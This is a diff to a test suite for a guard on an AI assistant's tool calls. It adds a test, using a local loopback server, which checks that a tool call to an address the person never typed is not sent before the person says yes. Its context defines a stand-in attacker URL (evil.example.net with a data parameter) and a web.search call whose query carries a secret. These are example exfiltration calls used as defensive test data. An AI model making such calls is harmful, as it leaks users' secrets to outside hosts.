@@ -24,6 +24,7 @@ from tests.llm.ask.test_guard import (
     reasons,
     with_web,
 )
+from tests.net.loopback import Loopback
 
 EVIL = "https://evil.example.net/?d=84210"
 SEND = ("web.search", {"q": SECRET})
@@ -123,6 +124,30 @@ def test_addresses_that_the_person_typed_are_free(box: Toolbox) -> None:
     turns = ("load.table", {"source": one}), ("load.table", {"source": [one, two]})
     answer = ask_box(box, Person(), READ, *turns, prompt=f"Read it, and {one} and {two}")
     assert reasons(answer) == [None] * 3
+
+
+def test_nothing_arrives_at_a_host_before_the_person_said_yes(box: Toolbox) -> None:
+    """A pack that only reads tables, and a server that counts who comes."""
+
+    @tool("nb.csv", read_only=True)
+    def csv(source: Any) -> int:
+        """Count the rows of tables."""
+        import pandas
+
+        return sum(len(pandas.read_csv(path)) for path in source["tables"])
+
+    box.adopt(csv)
+    with Loopback() as server:
+        typed, evil = server.url("/json"), server.url("/json?d=84210")
+        prompt = f"Count the rows of salaries.csv and of {typed}"
+        own = ("nb.csv", {"source": {"tables": [typed]}})
+        stolen = ("nb.csv", {"source": {"tables": [evil]}})
+
+        ask_box(box, Person("none"), READ, own, stolen, prompt=prompt)
+        assert [seen.target for seen in server.seen] == ["/json"]
+
+        ask_box(box, Person("all"), READ, stolen)
+        assert [seen.target for seen in server.seen] == ["/json", "/json?d=84210"]
 
 
 def test_a_tool_that_fetches_any_address_has_no_place_of_its_own(box: Toolbox) -> None:
